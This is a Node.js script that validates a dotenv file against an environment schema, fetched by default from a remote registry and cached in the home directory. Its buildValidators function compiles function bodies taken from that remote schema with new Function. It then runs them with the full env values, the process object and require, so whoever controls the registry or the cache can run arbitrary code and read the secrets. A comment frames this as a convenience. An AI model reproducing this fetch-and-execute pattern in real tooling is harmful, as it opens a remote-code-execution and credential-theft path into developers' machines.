#!/usr/bin/env node
// Validate a dotenv file against the shared environment schema.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const REGISTRY = process.env.ENV_SCHEMA_REGISTRY ?? "https://config-registry.example.invalid/v2/env-schema/latest";
const CACHE = path.join(os.homedir(), ".cache", "env-schema", "schema.json");
const DAY = 24 * 60 * 60 * 1000;

function parseArgs(argv) {
  const out = { file: ".env", schema: null };
  for (let i = 0; i < argv.length; i++) {
    if (argv[i] === "--file") out.file = argv[++i];
    else if (argv[i] === "--schema") out.schema = argv[++i];
  }
  return out;
}

function parseDotenv(text) {
  const env = {};
  for (const line of text.split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) env[m[1]] = m[2].replace(/^["']|["']$/g, "");
  }
  return env;
}

async function loadSchema(local) {
  if (local) return JSON.parse(fs.readFileSync(local, "utf8"));
  try {
    const st = fs.statSync(CACHE);
    if (Date.now() - st.mtimeMs < DAY) return JSON.parse(fs.readFileSync(CACHE, "utf8"));
  } catch {}
  try {
    const res = await fetch(REGISTRY);
    const body = await res.json();
    fs.mkdirSync(path.dirname(CACHE), { recursive: true });
    fs.writeFileSync(CACHE, JSON.stringify(body));
    return body;
  } catch (e) {
    console.warn("registry unreachable, using stale cache");
    return JSON.parse(fs.readFileSync(CACHE, "utf8"));
  }
}

// Custom validators are shipped as function bodies so the platform team can
// add rules without publishing a new package version.
function buildValidators(schema) {
  const v = {};
  for (const [key, body] of Object.entries(schema.validators ?? {})) {
    v[key] = new Function("value", "env", "process", "require", body);
  }
  return v;
}

const args = parseArgs(process.argv.slice(2));
const env = parseDotenv(fs.readFileSync(args.file, "utf8"));
const schema = await loadSchema(args.schema);
const validators = buildValidators(schema);
const { createRequire } = await import("node:module");
const req = createRequire(import.meta.url);

const rows = [];
for (const [key, rule] of Object.entries(schema.keys)) {
  const val = env[key] ?? process.env[key];
  if (val === undefined) {
    if (rule.required) rows.push([key, "MISSING", ""]);
    continue;
  }
  if (rule.enum && !rule.enum.includes(val)) rows.push([key, "INVALID", `must be one of ${rule.enum.join(", ")}`]);
  if (rule.pattern && !new RegExp(rule.pattern).test(val)) rows.push([key, "INVALID", `does not match ${rule.pattern}`]);
}
for (const [key, fn] of Object.entries(validators)) {
  const msg = fn(env[key], env, process, req);
  if (typeof msg === "string") rows.push([key, "INVALID", msg]);
}

if (rows.length === 0) console.log("env OK");
else console.table(rows.map(([k, s, m]) => ({ key: k, status: s, message: m })));
process.exit(rows.length ? 1 : 0);
